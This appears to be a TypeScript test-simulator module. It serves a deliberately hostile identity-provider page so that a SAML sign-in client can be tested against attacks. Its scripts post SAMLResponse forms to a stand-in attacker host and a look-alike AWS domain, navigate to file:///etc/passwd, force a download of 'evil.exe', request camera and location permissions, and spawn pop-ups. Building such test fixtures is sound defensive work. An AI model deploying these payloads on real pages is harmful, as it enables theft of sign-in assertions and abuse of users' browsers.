import type { Answer } from '../http/answer.ts';
import type { SimulatorRequest } from '../http/request.ts';
import { Html, pageAnswer } from '../pages/html.ts';

/** What a hostile or broken identity provider's page tries. */
const hostileScripts: Readonly<Record<string, string>> = {
  customScheme: `location.href='ms-settings:evil';location.href='ssh://evil.example'`,
  download: `const a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['x']));a.download='evil.exe';document.body.append(a);a.click()`,
  file: `location.href='file:///etc/passwd'`,
  foreignForm: form('https://evil.example/saml'),
  hugeForm: form('https://signin.aws.amazon.com/saml', 10 * 1024 * 1024),
  lookAlike: form('https://signin.aws.amazon.com.evil.example/saml'),
  permissions: `for(const p of ['geolocation','notifications','camera','microphone'])navigator.permissions.query({name:p}).catch(()=>0);navigator.geolocation.getCurrentPosition(()=>0,()=>0);Notification.requestPermission();navigator.mediaDevices?.getUserMedia({video:true}).catch(()=>0)`,
  plainHttp: form('http://signin.aws.amazon.com/saml'),
  popUps: `for(let i=0;i<50;i++)open('about:blank')`,
  portalOwn: form('https://eu-west-1.signin.aws.amazon.com/platform/saml/acs/fake'),
};

/** GET `/idp/hostile?does=NAME`. */
export function showHostilePage({ query }: SimulatorRequest): Answer {
  const script = hostileScripts[query.get('does') ?? ''] ?? '';
  const answer = pageAnswer(200, 'Hostile', new Html(`<p>Hostile page</p><script>${script}</script>`));
  const headers = { 'content-type': 'text/html; charset=utf-8' };
  return { ...answer, headers };
}

function form(action: string, bytes = 8): string {
  return (
    `const f=document.createElement('form');f.method='post';f.action='${action}';` +
    `const i=document.createElement('input');i.name='SAMLResponse';i.value='QUFB'.repeat(${bytes / 4});f.append(i);document.body.append(f);f.submit()`
  );
}
